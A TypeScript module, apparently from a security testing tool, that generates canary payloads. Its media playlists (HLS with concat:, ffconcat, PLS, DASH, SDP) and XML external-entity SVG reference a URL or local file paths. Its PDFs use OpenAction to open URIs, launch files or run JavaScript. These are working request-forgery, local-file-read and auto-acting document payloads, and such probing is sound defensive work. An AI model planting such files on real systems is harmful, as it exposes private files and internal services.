/** @file Files that refer to other files and addresses. */
import { type Canary } from './canary.ts';
import { pdf } from './bombs.ts';

/** Texts that a careless reader follows, by what they are. */
export const playlists = ({ url, path }: Pick<Canary, 'url' | 'path'>): Record<string, string> => {
  const targets = [url, `file://${path}`, path];
  const each = (line: (target: string) => string) => targets.map(line).join('\n');
  return {
    hls: `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n${each((target) => `#EXTINF:10.0,\n${target}`)}\n#EXT-X-ENDLIST\n`,
    'hls with a blank line before': `\n \t#EXTM3U\n#EXTINF:10.0,\nconcat:${url}|file://${path}\n#EXT-X-ENDLIST\n`,
    'hls with a key': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}"\n#EXTINF:1,\n${path}\n`,
    ffconcat: `ffconcat version 1.0\n${each((target) => `file '${target}'`)}\n`,
    concat: each((target) => `file '${target}'`),
    pls: `[playlist]\nFile1=${url}\nFile2=${path}\nNumberOfEntries=2\n`,
    dash: `<?xml version="1.0"?><MPD type="static"><Period><BaseURL>${url}</BaseURL></Period></MPD>`,
    smil: `<smil><body><video src="${url}"/></body></smil>`,
    asx: `<asx version="3.0"><entry><ref href="${url}"/></entry></asx>`,
    sdp: `v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=audio 5004 RTP/AVP 0\na=control:${url}\n`,
    entity: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file://${path}">]><svg><image href="${url}"/>&y;</svg>`,
    page: `<html><img src="${url}"><iframe src="file://${path}"></iframe><script>fetch("${url}")</script></html>`,
  };
};

/** Documents that act, or take something in, when they are opened. */
export const actingPdfs = ({ url, path }: Pick<Canary, 'url' | 'path'>): Buffer[] =>
  [
    `/OpenAction << /S /URI /URI (${url}) >>`,
    `/OpenAction << /S /Launch /F (${path}) >>`,
    `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}"\\)) >>`,
    `/OpenAction << /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`,
  ].map((extra) => pdf(extra, Buffer.from('BT ET')));
